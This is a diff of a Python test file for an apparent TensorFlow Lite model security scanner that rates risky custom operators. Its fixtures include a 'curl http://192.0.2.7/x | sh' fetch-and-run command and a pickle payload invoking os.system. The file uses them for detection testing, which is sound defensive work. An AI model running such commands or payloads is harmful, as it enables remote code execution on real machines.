@@ -21,6 +21,10 @@ def severities(data: bytes) -> list[Severity]:
     return [finding.severity for fact in facts for check in checks for finding in check.examine(fact)]
 
 
+def printing(stream: str) -> bytes:
+    return flex_options("PrintV2", node("n", "PrintV2", attrs=attr("output_stream", string(stream))))
+
+
 def with_archive(data: bytes, **files: bytes) -> bytes:
     out = io.BytesIO(data)
     with zipfile.ZipFile(out, "a") as archive:
@@ -47,14 +51,14 @@ def test_plain_model_is_complete_and_silent() -> None:
         ("FlexWriteFile", b"", (strings("out"), strings("echo inert")), Severity.HIGH),
         ("FlexPyFunc", b"", (), Severity.HIGH),
         ("FlexErf", b"", (), None),
-        ("FlexPrintV2", flex_options("PrintV2", node("n", "PrintV2", attrs=attr("output_stream", string("file:///tmp/x")))), (), Severity.HIGH),
-        ("FlexPrintV2", flex_options("PrintV2", node("n", "PrintV2", attrs=attr("output_stream", string("stderr")))), (), None),
+        ("FlexPrintV2", printing("file:///tmp/x"), (), Severity.HIGH),
+        ("FlexPrintV2", printing("stderr"), (), None),
         ("FlexShellExecute", b"", (), Severity.HIGH),
         ("MyFused", b"", (), Severity.MEDIUM),
         ("MyFused", b"\x01curl http://192.0.2.7/x | sh\0", (), Severity.HIGH),
         ("TFLite_Detection_PostProcess", b"", (), None),
     ],
-)  # fmt: skip
+)
 def test_judgement(code: str, options: bytes, constants: tuple[bytes, ...], severity: Severity | None) -> None:
     assert severities(model((code, options, constants))) == ([] if severity is None else [severity])
 
@@ -67,7 +71,9 @@ def test_associated_files_belong_to_models_with_metadata() -> None:
     described = model(("", b"", ()), metadata=[("TFLITE_METADATA", b"M001")])
     seen = look(with_archive(described, labels=b"cat\ndog\n"), "model.tflite")
     assert (seen.kind, seen.unread, seen.anomalies) == ("tflite", [], [])
-    assert "os.system" in {str(fact.symbol) for fact in look(with_archive(described, x=b"cos\nsystem\n(S'id'\ntR."), "m").of(Import)}
+    assert "os.system" in {
+        str(fact.symbol) for fact in look(with_archive(described, x=b"cos\nsystem\n(S'id'\ntR."), "m").of(Import)
+    }
     assert look(with_archive(PLAIN, labels=b"cat\ndog\n"), "model.tflite").anomalies != []
 
 
